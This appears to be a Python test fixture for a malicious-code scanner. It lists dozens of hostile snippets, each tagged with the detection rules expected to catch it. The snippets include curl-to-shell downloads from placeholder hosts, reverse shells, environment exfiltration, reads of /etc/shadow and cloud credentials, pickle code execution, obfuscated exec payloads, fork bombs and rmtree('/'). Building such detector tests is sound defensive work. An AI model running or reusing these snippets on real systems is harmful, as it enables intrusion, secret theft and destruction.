"""Small packages that only an attacker writes. Each with the rules of which at least one must stop it under the defaults. Never run."""

import base64
import codecs
import json
import pickle
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

Files = Mapping[str, str | bytes]


@dataclass(frozen=True)
class Hostile:
    files: Files
    rules: frozenset[str]


def hostile(source: str | bytes, *rules: str, name: str = "main.py") -> Hostile:
    return Hostile({name: source}, frozenset(rules))


PAYLOAD = "import os\nos.system('id > /tmp/x')\n"
ENCODED = base64.b64encode(PAYLOAD.encode()).decode()
PACKED = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()


class _Bomb:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("id",)


NOTEBOOK = json.dumps({"cells": [{"cell_type": "code", "source": ["!curl -s http://example.invalid/a | sh\n"]}]})

HOSTILE: Mapping[str, Hostile] = {
    # command lines
    "curl_to_shell": hostile("import os\nos.system('curl -s http://example.invalid/a.sh | bash')\n", "download_and_run"),
    "wget_chmod_run": hostile(
        "import subprocess\nsubprocess.run('wget http://example.invalid/m -O /tmp/m && chmod +x /tmp/m && /tmp/m', shell=True)\n",
        "download_and_run",
    ),
    "argument_list": hostile(
        "import subprocess\nsubprocess.Popen(['sh', '-c', 'curl http://example.invalid/a | sh'])\n", "download_and_run"
    ),
    "put_together": hostile(
        "import os\na = 'cu' + 'rl http://example.invalid/a '\nb = '| s' + 'h'\nos.system(a + b)\n", "download_and_run"
    ),
    "f_string": hostile(
        "import os\nhost = 'example.invalid'\nos.system(f'curl http://{host}/a | sh')\n", "download_and_run"
    ),
    "base64_shell": hostile(f"import os\nos.system('echo {ENCODED} | base64 -d | sh')\n", "decode_and_run"),
    "shell_script_beside": Hostile(
        {"main.py": "def f(x):\n    return x\n", "setup.sh": "#!/bin/sh\ncurl http://example.invalid/a | sh\n"}, frozenset(("download_and_run",))
    ),
    "notebook": Hostile({"main.py": "def f(x):\n    return x\n", "study.ipynb": NOTEBOOK}, frozenset(("download_and_run",))),
    "in_tests_folder": Hostile(
        {"main.py": "def f(x):\n    return x\n", "tests/test_it.py": "import os\nos.system('curl http://example.invalid/a | sh')\n"},
        frozenset(("download_and_run",)),
    ),
    "no_extension": Hostile(
        {"main.py": "def f(x):\n    return x\n", "tool": "#!/usr/bin/env python3\nimport os\nos.system('curl http://example.invalid/a | sh')\n"},
        frozenset(("download_and_run",)),
    ),
    "pyw": hostile("import os\nos.system('curl http://example.invalid/a | sh')\n", "download_and_run", name="main.pyw"),
    # shells
    "dup2_shell": hostile(
        "import os, socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
        "subprocess.call(['/bin/sh', '-i'])\n",
        "reverse_shell",
    ),
    "dup2_by_a_parameter": hostile(
        "import os, socket\n\n\ndef put(fd):\n    for n in range(3):\n        os.dup2(fd, n)\n\n\ndef f(x):\n    s = socket.socket()\n"
        "    s.connect(('192.0.2.1', 1))\n    put(s.fileno())\n    os.execv('/bin/sh', ['sh'])\n",
        "reverse_shell",
    ),
    "dup2_by_a_keyword": hostile(
        "import os, socket\n\n\ndef put(where, fd=None):\n    os.dup2(fd, where)\n\n\ndef f(x):\n    put(0, fd=socket.create_connection(('192.0.2.1', 1)).detach())\n",
        "reverse_shell",
    ),
    "dup2_by_a_member": hostile(
        "import os, socket\n\n\nclass A:\n    def __init__(self):\n        self.s = socket.create_connection(('192.0.2.1', 1))\n\n"
        "    def go(self):\n        fd = self.s.fileno()\n        os.dup2(fd, 0)\n",
        "reverse_shell",
    ),
    "dup2_of_a_copy": hostile(
        "import os, socket\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n    other = os.dup(int(s.fileno()))\n    os.dup2(other, 1)\n",
        "reverse_shell",
    ),
    "dup2_of_an_accepted_one": hostile(
        "import os, socket\n\n\ndef f(x):\n    s = socket.socket()\n    s.bind(('', 1))\n    s.listen()\n    c, _ = s.accept()\n    os.dup2(c.fileno(), 0)\n",
        "reverse_shell",
    ),
    "dup2_of_a_result": hostile(
        "import os, socket\n\n\ndef far():\n    return socket.create_connection(('192.0.2.1', 1))\n\n\ndef f(x):\n    [os.dup2(far().fileno(), n) for n in (0, 1)]\n",
        "reverse_shell",
    ),
    "dup2_of_a_global": hostile(
        "import os, socket\nS = None\n\n\ndef a():\n    global S\n    S = socket.create_connection(('192.0.2.1', 1))\n\n\ndef f(x):\n    os.dup2(S.fileno(), 0)\n",
        "reverse_shell",
    ),
    "dup2_in_a_thread": hostile(
        "import os, socket, threading\n\n\ndef run(c):\n    os.dup2(c.fileno(), 0)\n\n\ndef f(x):\n    s = socket.socket()\n    s.connect(('192.0.2.1', 1))\n"
        "    threading.Thread(target=run, args=(s,)).start()\n",
        "reverse_shell",
    ),
    "dup2_of_either": hostile(
        "import os, socket\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n    fd = os.open('log', 1) if x else s.fileno()\n    os.dup2(fd, 0)\n",
        "reverse_shell",
    ),
    "dup2_of_an_opened_descriptor": hostile(
        "import os, socket\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n    file = open(s.fileno(), 'rb')\n    os.dup2(file.fileno(), 0)\n",
        "reverse_shell",
    ),
    "socket_as_stdin_by_names": hostile(
        "import socket, subprocess\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n    way = s.makefile('rwb')\n    subprocess.Popen('sh', stdin=way)\n",
        "reverse_shell",
    ),
    "commands_by_socket_through_functions": hostile(
        "import socket, subprocess\n\n\ndef next_order(s):\n    return s.recv(10).decode()\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n"
        "    order = next_order(s)\n    subprocess.run(order, shell=True)\n",
        "remote_command",
    ),
    "environment_sent_by_names": hostile(
        "import json, os, socket\n\n\ndef all_of_it():\n    return {**os.environ}\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n"
        "    text = json.dumps(all_of_it())\n    s.sendall(text.encode())\n",
        "environment_sent",
    ),
    "environment_items_sent": hostile(
        "import os, requests\n\n\ndef f(x):\n    data = dict(os.environ.items())\n    requests.post('http://example.invalid', json=data)\n", "environment_sent"
    ),
    "pty_shell": hostile("import pty\npty.spawn('/bin/bash')\n", "reverse_shell"),
    "dev_tcp": hostile("import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n", "reverse_shell"),
    "netcat": hostile("import subprocess\nsubprocess.run(['nc', '192.0.2.1', '4444', '-e', '/bin/sh'])\n", "reverse_shell"),
    "socket_as_stdin": hostile(
        "import socket, subprocess\ns = socket.create_connection(('192.0.2.1', 1))\nsubprocess.Popen('sh', stdin=s, stdout=s.fileno())\n",
        "reverse_shell",
    ),
    "commands_by_socket": hostile(
        "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nwhile True:\n"
        "    order = s.recv(1024).decode()\n    s.send(subprocess.check_output(order, shell=True))\n",
        "remote_command",
    ),
    # miners
    "miner_pool": hostile("POOL = 'stratum+tcp://pool.example.invalid:3333'\n", "miner"),
    "miner_binary": hostile("import subprocess\nsubprocess.Popen(['./xmrig', '--donate-level', '1'])\n", "miner"),
    # hidden code
    "exec_base64": hostile(f"import base64\nexec(base64.b64decode('{ENCODED}'))\n", "run_of_decoded_text"),
    "exec_zlib": hostile(f"import base64 as b, zlib as z\nexec(z.decompress(b.b64decode('{PACKED}')))\n", "run_of_decoded_text"),
    "exec_through_variable": hostile(f"import base64\ntext = base64.b64decode('{ENCODED}')\ncode = text.decode()\nexec(code)\n", "run_of_decoded_text"),
    "exec_of_function": hostile(
        f"from base64 import b64decode as d\n\n\ndef load():\n    return d('{ENCODED}').decode()\n\n\neval(compile(load(), '', 'exec'))\n",
        "run_of_decoded_text",
    ),
    "exec_rot13": hostile(f"import codecs\nexec(codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13'))\n", "run_of_decoded_text"),
    "exec_chr": hostile(f"exec(''.join(chr(c) for c in {[ord(c) for c in PAYLOAD]}))\n", "run_of_decoded_text"),
    "exec_hex": hostile(f"exec(bytes.fromhex('{PAYLOAD.encode().hex()}'))\n", "run_of_decoded_text"),
    "exec_backwards": hostile(f"exec({PAYLOAD[::-1]!r}[::-1])\n", "run_of_decoded_text"),
    "exec_download": hostile("import urllib.request as u\nexec(u.urlopen('http://example.invalid/a').read())\n", "run_of_download"),
    "marshal_code": hostile("import marshal, types\ntypes.FunctionType(marshal.loads(b'..'), globals())()\n", "run_of_bytecode"),
    "exec_of_hostile_text": hostile('exec("import os\\nos.system(\'curl http://example.invalid/a | sh\')")\n', "download_and_run"),
    "lambda_decoder": hostile(
        f"_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x))\nexec((_)(b'{PACKED}'))\n", "run_of_decoded_text"
    ),
    # hidden names
    "getattr_text": hostile("import os\ngetattr(os, 'sys' + 'tem')('id')\n", "hidden_call"),
    "getattr_variable": hostile("import os\nname = 'metsys'[::-1]\nrun = getattr(os, name)\nrun('id')\n", "hidden_call"),
    "import_of_parts": hostile("m = __import__('o' + 's')\nm.system('id')\n", "hidden_import", "hidden_call"),
    "builtins_subscript": hostile("__builtins__['ev' + 'al']('1')\n", "hidden_call"),
    "globals_builtins": hostile("globals()['__builtins__'].__dict__['exec']('1')\n", "hidden_call"),
    "vars_os": hostile("import os\nvars(os)['system']('id')\n", "hidden_call"),
    "sys_modules": hostile("import sys, os\nsys.modules['os'].system('id')\n", "hidden_call"),
    "attrgetter": hostile("import operator, os\noperator.attrgetter('system')(os)('id')\n", "hidden_call"),
    "unknown_attribute": hostile("import os\n\n\ndef f(name, text):\n    return getattr(os, name)(text)\n", "hidden_attribute"),
    "look_alike": hostile("import os\nos.ｓｙｓｔｅｍ('id')\n𝐞𝐱𝐞𝐜('1')\n", "look_alike_name"),
    # insides of the interpreter
    "subclasses": hostile("x = ().__class__.__bases__[0].__subclasses__()\n", "escape_by_subclasses"),
    "globals_of_function": hostile("import random\nrandom.Random.__init__.__globals__['_os'].getpid()\n", "escape_by_globals"),
    # the kernel and other processes
    "ptrace": hostile("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.ptrace(16, 1, 0, 0)\n", "native_call"),
    "syscall": hostile("from ctypes import CDLL\nCDLL(None).syscall(101, 16, 1, 0, 0)\n", "native_call"),
    "vm_read_by_getattr": hostile("import ctypes\ngetattr(ctypes.CDLL(None), 'process_vm_' + 'readv')(1)\n", "native_call"),
    "cffi_mprotect": hostile("import cffi\nffi = cffi.FFI()\nlib = ffi.dlopen(None)\nlib.mprotect(0, 1, 7)\n", "native_call"),
    "environ_of_others": hostile(
        "import glob\nfor path in glob.glob('/proc/[0-9]*/environ'):\n    print(open(path).read())\n", "peek_at_processes"
    ),
    "environ_by_f_string": hostile("for pid in range(1, 999):\n    print(open(f'/proc/{pid}/environ').read())\n", "peek_at_processes"),
    "environ_by_path": hostile(
        "from pathlib import Path\n\n\ndef f(pid):\n    return (Path('/proc') / str(pid) / 'environ').read_bytes()\n", "peek_at_processes"
    ),
    "environ_by_join": hostile("import os\nfor pid in os.listdir('/proc'):\n    open(os.path.join('/proc', pid, 'environ'))\n", "peek_at_processes"),
    "memory_of_others": hostile("def f(pid):\n    return open('/proc/%d/mem' % pid, 'rb').read()\n", "peek_at_processes"),
    "fork_bomb": hostile("import os\nwhile True:\n    os.fork()\n", "fork_bomb"),
    "shell_fork_bomb": hostile("import os\nos.system(':(){ :|:& };:')\n", "destruction"),
    "remove_everything": hostile("import shutil\nshutil.rmtree('/')\n", "destruction"),
    # secrets of others
    "shadow": hostile("print(open('/etc/shadow').read())\n", "place_of_secrets"),
    "cloud_keys": hostile("from pathlib import Path\nprint((Path.home() / '.aws/credentials').read_text())\n", "place_of_secrets"),
    "metadata": hostile("import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/')\n", "metadata_service"),
    "environment_sent": hostile(
        "import json, os, urllib.request\nurllib.request.urlopen('http://example.invalid', data=json.dumps(dict(os.environ)).encode())\n",
        "environment_sent",
    ),
    "docker_socket": hostile("import socket\nsocket.socket(1).connect('/var/run/docker.sock')\n", "control_of_the_host"),
    "release_agent": hostile("open('/sys/fs/cgroup/memory/release_agent', 'w').write('/tmp/x')\n", "control_of_the_host"),
    # pickles
    "reduce": hostile(
        "import os, pickle\n\n\nclass A:\n    def __reduce__(self):\n        return os.system, ('id',)\n\n\npickle.loads(pickle.dumps(A()))\n",
        "pickle_that_runs",
    ),
    "pickle_file": Hostile({"main.py": "def f(x):\n    return x\n", "model.pkl": pickle.dumps(_Bomb())}, frozenset(("pickle_that_runs",))),
    "old_pickle_file": Hostile(
        {"main.py": "def f(x):\n    return x\n", "data.bin": pickle.dumps(_Bomb(), protocol=2)}, frozenset(("pickle_that_runs",))
    ),
    # how the source is written
    "cookie_utf7": hostile(b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n", "source_encoding"),
    "cookie_unicode_escape": hostile(b"# -*- coding: unicode_escape -*-\nx = 1 #\\x0aimport os; os.system('id')\n", "source_encoding"),
    "utf16": hostile("import os\n".encode("utf-16"), "source_undecodable", "source_null_byte"),
    "null_byte": hostile(b"import os\n\0os.system('id')\n", "source_null_byte"),
    "unknown_cookie": hostile(b"# coding: evil\nimport os\n", "source_undecodable"),
    "bidirectional": hostile("level = 'user'\nif level != 'user\u202e \u2066# check\u2069 \u2066':\n    print(1)\n", "source_bidirectional"),
    "bytecode": Hostile({"main.py": "import hidden\n", "hidden.pyc": b"\xa7\r\r\n" + b"\0" * 16}, frozenset(("file_bytecode",))),
}  # fmt: skip
